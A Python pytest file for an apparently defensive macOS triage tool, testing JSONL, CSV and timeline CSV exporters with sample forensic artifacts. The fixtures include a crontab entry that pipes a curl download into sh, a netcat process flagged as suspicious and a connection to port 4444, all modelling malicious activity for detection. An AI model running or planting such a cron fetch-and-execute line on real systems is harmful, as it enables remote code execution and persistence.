"""Tests for artifact sinks and the timeline CSV exporter."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime

import pytest

from triagekit.core.errors import ExportError, ParseError
from triagekit.core.loader import load_artifacts
from triagekit.export import (
    CSVWriter,
    JSONLWriter,
    MultiWriter,
    read_timeline_csv,
    write_timeline_csv,
)
from triagekit.export.base import ArtifactWriter
from triagekit.export.csv_writer import CSV_HEADER
from triagekit.export.timeline import TIMELINE_HEADER
from triagekit.models.artifact import Severity
from triagekit.normalizer import build_timeline, summarize


class RecordingWriter(ArtifactWriter):
    def __init__(self, fail_on_close: bool = False) -> None:
        self.written = []
        self.closed = False
        self.fail_on_close = fail_on_close

    def write(self, artifact) -> None:
        self.written.append(artifact)

    def close(self) -> None:
        self.closed = True
        if self.fail_on_close:
            raise RuntimeError("close failed")


class TestJSONLWriter:
    def test_one_record_per_line(self, tmp_path, make_artifact) -> None:
        path = tmp_path / "out.jsonl"
        scored = make_artifact(
            "running_process",
            {"name": "nc"},
            risk_score=20,
            severity=Severity.LOW,
            tags=["suspicious_name:nc"],
        )
        plain = make_artifact("recent_file", {"name": "a.txt"})
        with JSONLWriter(path) as writer:
            writer.write_many([scored, plain])

        lines = path.read_text(encoding="utf-8").splitlines()
        assert len(lines) == 2
        first, second = (json.loads(line) for line in lines)
        assert first["risk_score"] == 20
        assert first["severity"] == "low"
        assert first["tags"] == ["suspicious_name:nc"]
        assert second["artifact_type"] == "recent_file"
        assert "risk_score" not in second
        assert "severity" not in second
        assert "metadata" not in second

    def test_collector_metadata_survives(self, tmp_path) -> None:
        source = tmp_path / "in.jsonl"
        metadata = {
            "success": True,
            "requires_root": False,
            "source_path": "/Library/LaunchAgents/com.x.plist",
            "file_hash": "abc",
            "collected_at": "2024-06-01T12:00:00Z",
        }
        source.write_text(
            json.dumps(
                {
                    "timestamp": "2024-06-01T12:00:00Z",
                    "collector_id": "launch_agents",
                    "artifact_type": "user_launch_agent",
                    "data": {"name": "com.x"},
                    "metadata": metadata,
                }
            )
            + "\n",
            encoding="utf-8",
        )
        artifacts = load_artifacts(source)
        assert artifacts[0].metadata.file_hash == "abc"

        out = tmp_path / "out.jsonl"
        with JSONLWriter(out) as writer:
            writer.write_many(artifacts)
        written = json.loads(out.read_text(encoding="utf-8"))
        assert written["metadata"] == metadata

    def test_unwritable_path(self, tmp_path) -> None:
        with pytest.raises(ExportError):
            JSONLWriter(tmp_path / "missing" / "out.jsonl")


class TestCSVWriter:
    def test_columns(self, tmp_path, make_artifact) -> None:
        path = tmp_path / "out.csv"
        artifact = make_artifact(
            "running_process",
            {"name": "nc", "pid": 7},
            risk_score=35,
            event_time=datetime(2024, 5, 1, 8, 0, 0, 123000, tzinfo=UTC),
        )
        plain = make_artifact("recent_file", {})
        with CSVWriter(path) as writer:
            writer.write_many([artifact, plain])

        with open(path, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        assert rows[0] == CSV_HEADER
        assert rows[1] == [
            "2024-06-01T12:00:00.000Z",
            "test_collector",
            "running_process",
            "lab-host",
            "35",
            "2024-05-01T08:00:00.123Z",
            '{"name":"nc","pid":7}',
        ]
        assert rows[2][4] == ""
        assert rows[2][5] == ""
        assert rows[2][6] == "{}"


class TestMultiWriter:
    def test_fans_out_in_order(self, make_artifact) -> None:
        first, second = RecordingWriter(), RecordingWriter()
        artifacts = [make_artifact("a"), make_artifact("b")]
        with MultiWriter(first, second) as sink:
            sink.write_many(artifacts)
        assert first.written == artifacts
        assert second.written == artifacts
        assert first.closed and second.closed

    def test_close_continues_after_failure(self) -> None:
        failing, healthy = RecordingWriter(fail_on_close=True), RecordingWriter()
        sink = MultiWriter(failing, healthy)
        with pytest.raises(RuntimeError):
            sink.close()
        assert healthy.closed


class TestTimelineCSV:
    """Timesketch export and read-back."""

    def test_header_and_order(self, tmp_path, make_artifact) -> None:
        process = make_artifact("running_process", {"name": "nc", "pid": 1, "username": "root"})
        visit = make_artifact(
            "safari_history",
            {"visit_time": "2023-01-01T00:00:00Z", "title": "x", "url": "http://x"},
        )
        path = tmp_path / "timeline.csv"
        rows = write_timeline_csv(build_timeline([process, visit], summarize=summarize), path)
        assert rows == 2

        with open(path, encoding="utf-8", newline="") as f:
            reader = csv.reader(f)
            header = next(reader)
            body = list(reader)
        assert header == TIMELINE_HEADER
        assert header[:4] == ["message", "datetime", "timestamp", "timestamp_desc"]
        assert body[0][:4] == [
            "Visit: x (http://x)",
            "2023-01-01T00:00:00Z",
            "1672531200000000",
            "Browser Visit",
        ]
        assert body[1][5] == "running_process"

    def test_round_trip_identity_fields(self, tmp_path, make_artifact) -> None:
        artifacts = [
            make_artifact(
                "network_connection",
                {"remote_addr": "8.8.8.8", "remote_port": 4444},
                collector_id="network_collector",
                hostname="mac-01",
                risk_score=90,
            ),
            make_artifact(
                "user_crontab",
                {"entry": "* * * * * curl http://x | sh"},
                collector_id="cron_collector",
                hostname="mac-02",
            ),
        ]
        path = tmp_path / "timeline.csv"
        timeline = build_timeline(artifacts, summarize=summarize)
        write_timeline_csv(timeline, path)

        records = read_timeline_csv(path)
        assert len(records) == len(timeline)
        for record, entry in zip(records, timeline):
            artifact = entry.artifact
            assert record.collector_id == artifact.collector_id
            assert record.artifact_type == artifact.artifact_type
            assert record.hostname == artifact.hostname
            assert record.risk_score == artifact.risk_score
            assert record.data == artifact.data
            assert record.timestamp == entry.timestamp

    def test_malformed_row(self, tmp_path) -> None:
        path = tmp_path / "bad.csv"
        path.write_text(
            ",".join(TIMELINE_HEADER) + "\nmsg,2023-01-01T00:00:00Z,notanumber,x,c,t,h,0,{}\n",
            encoding="utf-8",
        )
        with pytest.raises(ParseError) as exc_info:
            read_timeline_csv(path)
        assert exc_info.value.error.context["line"] == 2

    def test_unwritable_path(self, tmp_path) -> None:
        with pytest.raises(ExportError):
            write_timeline_csv(build_timeline([]), tmp_path / "nope" / "t.csv")
